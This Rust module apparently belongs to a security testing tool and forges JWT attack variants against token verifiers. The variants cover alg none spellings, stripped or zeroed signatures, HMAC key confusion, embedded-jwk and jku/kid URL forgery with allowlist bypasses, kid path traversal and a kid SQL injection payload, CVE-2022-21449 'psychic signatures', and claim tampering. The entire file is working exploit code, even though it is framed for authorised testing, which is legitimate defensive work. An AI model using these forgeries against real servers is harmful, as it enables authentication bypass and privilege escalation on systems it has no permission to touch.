//! Attack variants of a token, for authorised testing of the servers that accept it.
//!
//! Each variant is a token a vulnerable verifier would accept, with a stable kebab-case id and
//! a sentence on what it tests. Claim edits (`role=admin`, `exp=+1h`) apply to every variant,
//! so one run probes each weakness with the privileges the tester wants.

use serde::Serialize;
use serde_json::{Map, Value, json};

use super::decode::{Decoded, TokenKind};
use super::jwk::Jwk;
use super::keygen::{KeyPair, generate};
use super::sign::{SigningKey, apply_edits, hmac_raw, sign_payload_b64};
use super::{JwtError, Result, b64};

/// Every attack id, in the order `forge` produces them.
pub const ATTACKS: &[&str] = &[
    "alg-none",
    "alg-none-capitalized",
    "alg-none-upper",
    "alg-none-mixed",
    "signature-stripped",
    "null-signature",
    "empty-secret",
    "key-confusion",
    "embedded-jwk",
    "jku",
    "jku-userinfo",
    "jku-subdomain",
    "jku-redirect",
    "kid-url",
    "kid-traversal",
    "kid-traversal-known-file",
    "kid-sql-injection",
    "psychic-signature",
    "resign",
    "claim-exp-past",
    "claim-nbf-future",
    "claim-aud-foreign",
    "claim-iss-foreign",
    "claim-exp-missing",
];

/// Twelve steps up: more than enough from any key folder, since `..` at the root stays there.
const UP: &str = "../../../../../../../../../../../../";

/// A file with known, non-empty contents on common Linux systems, for servers (and
/// libraries such as current pyjwt) that refuse an empty HMAC key.
const KNOWN_FILE: (&str, &[u8]) = ("proc/sys/kernel/randomize_va_space", b"2\n");

/// The HMAC key the SQL-injected kid makes a vulnerable key lookup return.
const SQL_KEY: &str = "apiward";

/// The kid a forged jku token names, matching the JWKS returned with it.
pub const FORGED_KID: &str = "apiward-forged";

/// What the forger may use.
#[derive(Debug, Clone, Default)]
pub struct ForgeOptions {
    /// The server's public key PEM, exactly as it serves it (for key-confusion).
    pub public_key_pem: Option<String>,
    /// A known or cracked HMAC secret (for resign).
    pub secret: Option<Vec<u8>>,
    /// A URL the tester controls, to host the JWKS (for jku, its bypass shapes and kid-url).
    pub jku_url: Option<String>,
    /// An open redirect on the trusted jku host, such as `https://trusted/redirect?url=`:
    /// the jku URL is appended to it, percent-encoded (for jku-redirect).
    pub jku_redirect: Option<String>,
    /// Claim edits applied to every variant, e.g. ("role", "admin"), ("exp", "+1h").
    pub set: Vec<(String, String)>,
    /// The current time, unix seconds, for relative time edits.
    pub now: i64,
}

/// One forged token.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Variant {
    /// Stable kebab-case id, one of [`ATTACKS`].
    pub attack: &'static str,
    pub token: String,
    pub explanation: String,
    /// Something the tester must host, such as the JWKS for the jku variant.
    pub extra: Option<String>,
}

/// A variant the options left out, what it would need and the option that gives it: a probe
/// lists these, so that "nothing accepted" never covers an attack that was not sent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Skipped {
    pub attack: &'static str,
    pub needs: &'static str,
    pub option: &'static str,
}

/// Whether a variant can be made from a token and the options.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Gate {
    Ready,
    /// An option is missing: (what it is, the CLI flag that gives it).
    Needs(&'static str, &'static str),
    /// The attack does not apply to this token (a jku bypass shape without a trusted jku).
    Moot(&'static str),
}

const JKU_NEEDS: Gate = Gate::Needs(
    "a jku URL you control and a file to write its JWKS to; a probe of a target on this machine hosts it itself",
    "--jku URL --jwks-out FILE",
);
const SECRET_NEEDS: Gate =
    Gate::Needs("the HMAC secret, given or found by jwt crack", "--secret S");

const NO_TRUSTED_JKU: &str = "the token's header names no trusted jku to disguise the URL as";

/// What `name` needs beyond the token, given the options.
fn gate(name: &str, header: &Map<String, Value>, opts: &ForgeOptions) -> Gate {
    let trusted = header.get("jku").and_then(Value::as_str).is_some();
    let jku = opts.jku_url.is_some();
    match name {
        "key-confusion" if opts.public_key_pem.is_none() => {
            Gate::Needs("the server's public key PEM", "--key PUB.pem")
        }
        "jku" | "kid-url" if !jku => JKU_NEEDS,
        "jku-userinfo" | "jku-subdomain" if !trusted => Gate::Moot(NO_TRUSTED_JKU),
        "jku-userinfo" if !jku => JKU_NEEDS,
        "jku-subdomain" if !opts.jku_url.as_deref().is_some_and(on_a_domain) => Gate::Needs(
            "a jku URL on a domain name you control, with wildcard DNS, so that the trusted host can prefix it",
            "--jku URL --jwks-out FILE",
        ),
        "jku-redirect" if opts.jku_redirect.is_none() && !trusted => Gate::Moot(NO_TRUSTED_JKU),
        "jku-redirect" if opts.jku_redirect.is_none() => Gate::Needs(
            "an open redirect on the trusted jku host",
            "--jku-redirect URL-PREFIX",
        ),
        "jku-redirect" if !jku => JKU_NEEDS,
        "resign" if opts.secret.is_none() => SECRET_NEEDS,
        n if n.starts_with("claim-") && opts.secret.is_none() => SECRET_NEEDS,
        _ => Gate::Ready,
    }
}

/// A URL whose host is a domain name another name can be prefixed to: not an IP address and
/// not localhost, which nothing resolves sub-domains of for certain.
fn on_a_domain(url: &str) -> bool {
    reqwest::Url::parse(url).is_ok_and(|u| {
        u.domain()
            .is_some_and(|d| d.contains('.') && !d.to_ascii_lowercase().ends_with("localhost"))
    })
}

/// The variants `opts` leave out for this token.
pub fn skipped(decoded: &Decoded, opts: &ForgeOptions) -> Vec<Skipped> {
    ATTACKS
        .iter()
        .filter_map(|attack| match gate(attack, &decoded.header, opts) {
            Gate::Needs(needs, option) => Some(Skipped {
                attack,
                needs,
                option,
            }),
            _ => None,
        })
        .collect()
}

/// Every variant the options allow. Variants that need a missing option are skipped (see
/// [`skipped`]).
pub fn forge(decoded: &Decoded, opts: &ForgeOptions) -> Result<Vec<Variant>> {
    let parts = Parts::new(decoded, opts)?;
    // One fresh key pair serves embedded-jwk and every jku variant, so one JWKS answers all.
    let mut pair = None;
    let mut out = Vec::new();
    for name in ATTACKS {
        if gate(name, &parts.header, opts) != Gate::Ready {
            continue;
        }
        match make(name, &parts, opts, &mut pair) {
            Ok(v) => out.push(v),
            Err(JwtError::Forge(..)) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(out)
}

/// One variant by id.
pub fn forge_one(name: &str, decoded: &Decoded, opts: &ForgeOptions) -> Result<Variant> {
    let name = ATTACKS.iter().find(|a| **a == name).ok_or_else(|| {
        JwtError::Forge(
            name.into(),
            format!("unknown attack; use one of {}", ATTACKS.join(", ")),
        )
    })?;
    make(name, &Parts::new(decoded, opts)?, opts, &mut None)
}

/// The token's pieces after claim edits.
struct Parts {
    header: Map<String, Value>,
    alg: String,
    /// The payload segment: the original bytes unless claims were edited.
    payload_b64: String,
    /// The claims after edits, when the payload is a claims object.
    claims: Option<Map<String, Value>>,
    sig_len: usize,
}

impl Parts {
    fn new(d: &Decoded, opts: &ForgeOptions) -> Result<Self> {
        if d.kind == TokenKind::Jwe {
            return Err(JwtError::Jwe);
        }
        let alg = d.alg.clone().unwrap_or_else(|| "HS256".into());
        let (payload_b64, claims) = if opts.set.is_empty() {
            (d.payload_b64().to_string(), d.claims().cloned())
        } else {
            let mut claims = d.claims().cloned().ok_or_else(|| {
                JwtError::ClaimEdit("set".into(), "the payload is not a claims object".into())
            })?;
            apply_edits(&mut claims, &opts.set, opts.now)?;
            (
                b64::encode(Value::Object(claims.clone()).to_string()),
                Some(claims),
            )
        };
        let sig_len = match d.signature.len() {
            0 => expected_sig_len(&alg),
            n => n,
        };
        Ok(Self {
            header: d.header.clone(),
            alg,
            payload_b64,
            claims,
            sig_len,
        })
    }

    fn header_with(&self, edits: &[(&str, Value)], remove: &[&str]) -> String {
        let mut h = self.header.clone();
        for r in remove {
            h.remove(*r);
        }
        for (k, v) in edits {
            h.insert(k.to_string(), v.clone());
        }
        b64::encode(Value::Object(h).to_string())
    }

    fn hmac_token(&self, alg: &str, header: String, key: &[u8]) -> Result<String> {
        self.hmac_token_with(alg, header, &self.payload_b64, key)
    }

    fn hmac_token_with(
        &self,
        alg: &str,
        header: String,
        payload_b64: &str,
        key: &[u8],
    ) -> Result<String> {
        let input = format!("{header}.{payload_b64}");
        let sig = hmac_raw(alg, key, input.as_bytes())?;
        Ok(format!("{input}.{}", b64::encode(sig)))
    }

    /// The HMAC alg to use: the token's own when it is HMAC, else HS256.
    fn hs_alg(&self) -> &str {
        match self.alg.as_str() {
            a @ ("HS256" | "HS384" | "HS512") => a,
            _ => "HS256",
        }
    }
}

fn expected_sig_len(alg: &str) -> usize {
    match alg {
        "HS384" => 48,
        "HS512" | "ES256" | "EdDSA" => 64,
        "ES384" => 96,
        "ES512" => 132,
        a if a.starts_with("RS") || a.starts_with("PS") => 256,
        _ => 32,
    }
}

fn make(
    name: &'static str,
    p: &Parts,
    opts: &ForgeOptions,
    pair: &mut Option<KeyPair>,
) -> Result<Variant> {
    match gate(name, &p.header, opts) {
        Gate::Ready => {}
        Gate::Needs(what, option) => {
            return Err(JwtError::Forge(
                name.into(),
                format!("needs {what} ({option})"),
            ));
        }
        Gate::Moot(why) => return Err(JwtError::Forge(name.into(), why.into())),
    }
    let need = || JwtError::Forge(name.into(), "a needed option is missing".into());
    let variant = |token: String, explanation: String| Variant {
        attack: name,
        token,
        explanation,
        extra: None,
    };
    let none = |spelling: &str| {
        let h = p.header_with(&[("alg", json!(spelling))], &[]);
        variant(
            format!("{h}.{}.", p.payload_b64),
            format!(
                "alg \"{spelling}\" and no signature: accepted by verifiers that honour the header's alg or compare 'none' case-sensitively."
            ),
        )
    };
    Ok(match name {
        "alg-none" => none("none"),
        "alg-none-capitalized" => none("None"),
        "alg-none-upper" => none("NONE"),
        "alg-none-mixed" => none("nOnE"),
        "signature-stripped" => variant(
            format!("{}.{}.", p.header_with(&[], &[]), p.payload_b64),
            format!("The original alg ({}) with an empty signature: accepted by verifiers that skip empty signatures.", p.alg),
        ),
        "null-signature" => variant(
            format!("{}.{}.{}", p.header_with(&[], &[]), p.payload_b64, b64::encode(vec![0u8; p.sig_len])),
            format!("A signature of {} zero bytes: accepted by verifiers that only check the length or compare with a broken routine.", p.sig_len),
        ),
        "empty-secret" => {
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), b"")?,
                format!("{alg} signed with an empty secret: accepted where the secret is unset or fails to load."),
            )
        }
        "key-confusion" => {
            let pem = opts.public_key_pem.as_deref().ok_or_else(need)?;
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), pem.as_bytes())?,
                format!("{alg} keyed with the server's public key PEM bytes: accepted by verifiers that take the alg from the token and use the RSA/EC key as an HMAC secret (RFC 8725 §3.1). Try the PEM with and without its final newline."),
            )
        }
        "embedded-jwk" => {
            let kp = keypair(pair, &p.alg)?;
            let jwk = bare_jwk(&kp.public_jwk, None);
            let mut h = strip(&p.header, &["jku", "x5u", "x5c"]);
            h.insert("jwk".into(), jwk);
            variant(
                sign_payload_b64(&h, &p.payload_b64, kp.alg, &SigningKey::Pem(kp.private_pem.clone()))?,
                format!("Signed with a fresh {} key embedded in the jwk header: accepted by verifiers that trust the token's own key (CVE-2018-0114).", kp.alg),
            )
        }
        "jku" | "jku-userinfo" | "jku-subdomain" | "jku-redirect" | "kid-url" => {
            let url = opts.jku_url.as_deref().ok_or_else(need)?;
            let trusted = p.header.get("jku").and_then(Value::as_str).unwrap_or_default();
            let (member, value, why) = match name {
                "jku" => ("jku", url.to_string(), format!("jku points to {url}; host the returned JWKS there. Accepted by verifiers that fetch keys from the token's jku without an allowlist.")),
                "jku-userinfo" => ("jku", userinfo_shape(trusted, url).ok_or_else(need)?, format!("jku puts the trusted {trusted}'s host before an @, so the fetch goes to {url}: accepted by allowlists that only check how the URL starts.")),
                "jku-subdomain" => ("jku", subdomain_shape(trusted, url).ok_or_else(need)?, format!("jku makes the trusted {trusted}'s host a sub-domain of {url}'s: accepted by allowlists that only check how the URL starts.")),
                "jku-redirect" => {
                    let prefix = opts.jku_redirect.as_deref().ok_or_else(need)?;
                    let encoded: String = form_urlencoded::byte_serialize(url.as_bytes()).collect();
                    ("jku", format!("{prefix}{encoded}"), format!("jku is an open redirect on the trusted host ({prefix}…) toward {url}: accepted by allowlists that check the first URL and then follow redirects."))
                }
                _ => ("kid", url.to_string(), format!("kid is the URL {url}, serving the returned JWKS: accepted by servers that fetch the key from a kid that looks like a URL.")),
            };
            let kp = keypair(pair, &p.alg)?;
            let jwk = bare_jwk(&kp.public_jwk, Some(FORGED_KID));
            let mut h = strip(&p.header, &["jwk", "jku", "x5u", "x5c"]);
            h.insert("kid".into(), json!(FORGED_KID));
            h.insert(member.into(), json!(value));
            let mut v = variant(
                sign_payload_b64(&h, &p.payload_b64, kp.alg, &SigningKey::Pem(kp.private_pem.clone()))?,
                why,
            );
            v.extra = Some(json!({"keys": [jwk]}).to_string());
            v
        }
        "kid-traversal" => variant(
            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}dev/null")))], &[]), b"")?,
            "kid points at /dev/null (twelve levels up, enough from any key folder) and the token is HS256-signed with an empty secret: accepted by servers that read the key from a file named by kid.".into(),
        ),
        "kid-traversal-known-file" => {
            let (file, contents) = KNOWN_FILE;
            variant(
                p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}{file}")))], &[]), contents)?,
                format!("kid points at /{file}, whose contents are \"2\\n\" on most Linux systems, and the token is HS256-signed with them: accepted by servers that read the key from a file named by kid even when they refuse an empty key."),
            )
        }
        "kid-sql-injection" => variant(
            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("x' UNION SELECT '{SQL_KEY}'-- ")))], &[]), SQL_KEY.as_bytes())?,
            format!("kid ends a SQL string and unions in the key '{SQL_KEY}', which signs the token: accepted by servers that look the key up with a query built from kid."),
        ),
        "psychic-signature" => variant(
            format!("{}.{}.{}", p.header_with(&[("alg", json!("ES256"))], &[]), p.payload_b64, b64::encode([0u8; 64])),
            "ES256 with r = s = 0: accepted by Java 15-18 ECDSA verifiers (CVE-2022-21449) for any key.".into(),
        ),
        "resign" => {
            let secret = opts.secret.as_deref().ok_or_else(need)?;
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), secret)?,
                format!("Re-signed {alg} with the known secret: valid wherever that secret is trusted, with the edited claims."),
            )
        }
        claim if claim.starts_with("claim-") => {
            let secret = opts.secret.as_deref().ok_or_else(need)?;
            let mut claims = p.claims.clone().ok_or_else(|| {
                JwtError::Forge(name.into(), "the payload is not a claims object".into())
            })?;
            let why = claim_variant(claim, &mut claims, opts.now);
            let alg = p.hs_alg();
            let payload = b64::encode(Value::Object(claims).to_string());
            variant(
                p.hmac_token_with(alg, p.header_with(&[("alg", json!(alg))], &[]), &payload, secret)?,
                format!("Re-signed {alg} with the known secret, {why}"),
            )
        }
        other => return Err(JwtError::Forge(other.into(), "unknown attack".into())),
    })
}

/// How far the claim variants move a time: well past any clock-skew leeway a server allows.
const HOUR: i64 = 3600;

/// An audience and an issuer that belong to nobody (RFC 2606 reserves .invalid).
const FOREIGN_AUD: &str = "https://another-service.apiward.invalid";
const FOREIGN_ISS: &str = "https://another-issuer.apiward.invalid";

/// Changes `claims` for one claim check and keeps every other check passing (a fresh exp,
/// an nbf in the past), so the variant's answer speaks for that check alone. Returns what
/// it changed, as the rest of a sentence.
fn claim_variant(name: &str, claims: &mut Map<String, Value>, now: i64) -> String {
    if claims.contains_key("exp") {
        claims.insert("exp".into(), json!(now + HOUR));
    }
    if claims.contains_key("nbf") {
        claims.insert("nbf".into(), json!(now - 60));
    }
    if claims
        .get("iat")
        .and_then(Value::as_i64)
        .is_some_and(|iat| iat > now)
    {
        claims.insert("iat".into(), json!(now));
    }
    match name {
        "claim-exp-past" => {
            claims.insert("exp".into(), json!(now - HOUR));
            "exp an hour in the past: accepted by servers that do not check exp (RFC 7519 §4.1.4)."
                .into()
        }
        "claim-nbf-future" => {
            claims.insert("nbf".into(), json!(now + HOUR));
            "nbf an hour in the future: accepted by servers that do not check nbf (RFC 7519 §4.1.5).".into()
        }
        "claim-aud-foreign" => {
            claims.insert("aud".into(), json!(FOREIGN_AUD));
            format!(
                "aud {FOREIGN_AUD}: accepted by servers that do not check that they are the audience (RFC 7519 §4.1.3)."
            )
        }
        "claim-iss-foreign" => {
            claims.insert("iss".into(), json!(FOREIGN_ISS));
            format!(
                "iss {FOREIGN_ISS}: accepted by servers that do not check the issuer (RFC 8725 §3.8)."
            )
        }
        _ => {
            claims.remove("exp");
            "no exp at all: accepted by servers that do not require an expiry, so such a token never stops working (RFC 8725 §3.10 asks for short-lived tokens).".into()
        }
    }
}

/// `scheme://TRUSTED-HOST@ATTACKER-HOST/path`: the trusted host (and port) becomes user info.
fn userinfo_shape(trusted: &str, attacker: &str) -> Option<String> {
    let t = reqwest::Url::parse(trusted).ok()?;
    let mut a = reqwest::Url::parse(attacker).ok()?;
    // A port becomes the password, so the text still reads `TRUSTED-HOST:PORT@`.
    a.set_username(t.host_str()?).ok()?;
    a.set_password(t.port().map(|p| p.to_string()).as_deref())
        .ok()?;
    Some(a.to_string())
}

/// `scheme://TRUSTED-HOST.ATTACKER-DOMAIN/path`: the attacker's domain under the trusted name.
fn subdomain_shape(trusted: &str, attacker: &str) -> Option<String> {
    let t = reqwest::Url::parse(trusted).ok()?;
    let mut a = reqwest::Url::parse(attacker).ok()?;
    let host = format!("{}.{}", t.host_str()?, a.domain()?);
    a.set_host(Some(&host)).ok()?;
    Some(a.to_string())
}

fn keypair<'a>(pair: &'a mut Option<KeyPair>, alg: &str) -> Result<&'a KeyPair> {
    if pair.is_none() {
        *pair = Some(generate(alg)?);
    }
    pair.as_ref()
        .ok_or_else(|| JwtError::Sign("no key pair".into()))
}

/// A public JWK with only its key members (and an optional kid): what attackers embed.
fn bare_jwk(jwk: &Value, kid: Option<&str>) -> Value {
    let bare = Jwk::from_value(jwk).map(|j| j.bare()).unwrap_or_default();
    Jwk {
        kid: kid.map(Into::into),
        ..bare
    }
    .to_value()
}

fn strip(header: &Map<String, Value>, names: &[&str]) -> Map<String, Value> {
    header
        .iter()
        .filter(|(k, _)| !names.contains(&k.as_str()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

#[cfg(test)]
#[path = "forge_tests.rs"]
mod tests;
